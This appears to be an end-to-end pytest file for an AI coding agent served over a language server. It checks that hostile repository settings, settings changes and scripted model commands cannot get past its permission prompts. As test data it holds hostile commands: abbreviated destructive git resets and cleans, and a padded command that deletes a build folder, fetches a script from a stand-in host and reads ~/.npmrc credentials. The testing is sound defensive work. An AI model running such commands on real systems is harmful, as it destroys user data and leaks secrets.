"""Attacks through the real language server (`agent-lsp serve` as a subprocess, an editor-like
client): a hostile repository's settings, a hostile model's settings change and prompts.

The client answers `window/showMessageRequest` from `client.answers` (none left: no answer,
which is a no). Outcomes only: what ran, what was changed, what the user was shown."""

from __future__ import annotations

import asyncio
import json
import sys
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from lsprotocol import types as t

from tests.e2e.editor_client import EditorClient, editor_session
from tests.e2e.hostile import Lab, command, hostile_test_suite, make_lab, require_bwrap

# `python -P`: the server imports agent_lsp from PYTHONPATH, not from the folder it starts in
SERVE = [sys.executable, "-P", "-m", "agent_lsp", "serve"]


@pytest.fixture
def lab() -> Iterator[Lab]:
    require_bwrap()
    with make_lab() as lab:
        yield lab


async def settle(predicate: Callable[[], bool], timeout: float) -> bool:
    """Wait until `predicate` holds or `timeout` seconds pass; whether it held."""
    loop = asyncio.get_running_loop()
    deadline = loop.time() + timeout
    while not predicate():
        if loop.time() > deadline:
            return False
        await asyncio.sleep(0.1)
    return True


async def run_task(client: EditorClient, text: str = "tidy up the project") -> None:
    result = await client.workspace_execute_command_async(
        t.ExecuteCommandParams(command="agentLsp.runTask", arguments=[{"task": text}])
    )
    assert isinstance(result, dict) and "taskId" in result, result
    await client.wait_for_message("agent-lsp: completed", timeout=90)


def run_command_results(lab: Lab) -> list[dict[str, Any]]:
    """The run_command results the model was given, parsed (status, output, metadata)."""
    out: list[dict[str, Any]] = []
    for content in lab.tool_results():
        try:
            parsed = json.loads(content)
        except json.JSONDecodeError:
            continue
        if isinstance(parsed, dict) and "decision" in (parsed.get("metadata") or {}):
            out.append(parsed)
    return out


# -- 3. an untrusted repository turns on tests.runOnSave ------------------------------------


async def test_f03_untrusted_run_on_save_runs_no_tests_on_save(lab: Lab) -> None:
    dump = hostile_test_suite(lab)
    lab.write(".agent-lsp/config.toml", "[tests]\nrunOnSave = true\n")
    lab.commit("run the tests on every save")
    async with editor_session("vscode", lab.ws, lab.env(), command=SERVE) as client:
        uri = client.open(lab.ws / "main.c", "c")
        client.text_document_did_save(
            t.DidSaveTextDocumentParams(text_document=t.TextDocumentIdentifier(uri=uri))
        )
        ran = await settle(
            lambda: dump.exists() or any(lab.outside.iterdir()),
            timeout=15,
        )
    assert not ran, "the repository's tests ran on save"
    lab.assert_no_canary()
    assert not lab.server.requests  # no task, no model


# -- 10. a settings change cannot widen an untrusted workspace ------------------------------


async def test_f10_did_change_configuration_does_not_raise_the_level(lab: Lab) -> None:
    lab.user_config("L2", allow=["make test"])  # an allowlist: L3 would be in force
    lab.server.script(command("touch made-at-L3.txt"))
    async with editor_session("vscode", lab.ws, lab.env(), command=SERVE) as client:
        client.workspace_did_change_configuration(
            t.DidChangeConfigurationParams(settings={"agentLsp": {"permissionLevel": "L3"}})
        )
        await asyncio.sleep(3)  # lets the notification be applied before the task starts
        await run_task(client)
    assert not (lab.ws / "made-at-L3.txt").exists(), "a command that needs L3 ran"


# -- 11. forbidden commands by abbreviation, with a user who clicks "Allow" -----------------


async def test_f11_abbreviated_forbidden_git_commands_are_refused_not_asked(lab: Lab) -> None:
    lab.write(".gitignore", "*.log\n")
    lab.commit("ignore logs")
    changed = "int main(void) { return 42; }\n"
    lab.write("main.c", changed)
    lab.write("build.log", "keep me\n")
    lab.server.script(command("git reset --ha"), command("git clean --forc -x"))
    async with editor_session("vscode", lab.ws, lab.env(), command=SERVE) as client:
        client.answers = ["Allow once"] * 4  # what a hurried user clicks
        await run_task(client)
    assert (lab.ws / "main.c").read_text() == changed, "git reset --ha ran"
    assert (lab.ws / "build.log").is_file(), "git clean --forc -x ran"


# -- 12. the prompt hides the payload --------------------------------------------------------

LONG = (
    "echo "
    + "harmless-looking-padding " * 18
    + "&& rm -r build && curl -s http://example.invalid/p -o p.sh && cat ~/.npmrc"
)


async def test_f12_the_prompt_shows_the_whole_long_command_and_every_reason(lab: Lab) -> None:
    assert LONG.index("rm -r") > 400
    lab.server.script(command(LONG))
    async with editor_session("vscode", lab.ws, lab.env(), command=SERVE) as client:
        client.answers = ["Deny"]
        await run_task(client)
    assert len(client.questions) == 1, [q.message for q in client.questions]
    shown = client.questions[0].message
    assert LONG in shown, shown
    (result,) = run_command_results(lab)
    reasons = result["metadata"]["decision"]["reasons"]
    assert len(reasons) > 3, reasons
    missing = [r for r in reasons if r not in shown]
    assert not missing, f"reasons not shown to the user: {missing}\nshown: {shown}"
    assert not (lab.ws / "p.sh").exists()


async def test_f12_always_allow_is_not_offered_for_a_compound_command(lab: Lab) -> None:
    lab.server.script(command("touch a.txt && touch b.txt"))
    async with editor_session("vscode", lab.ws, lab.env(), command=SERVE) as client:
        await run_task(client)  # no answer: denied
    assert len(client.questions) == 1
    options = [a.title for a in client.questions[0].actions or []]
    assert "Always allow" not in options, options
    assert not (lab.ws / "a.txt").exists() and not (lab.ws / "b.txt").exists()
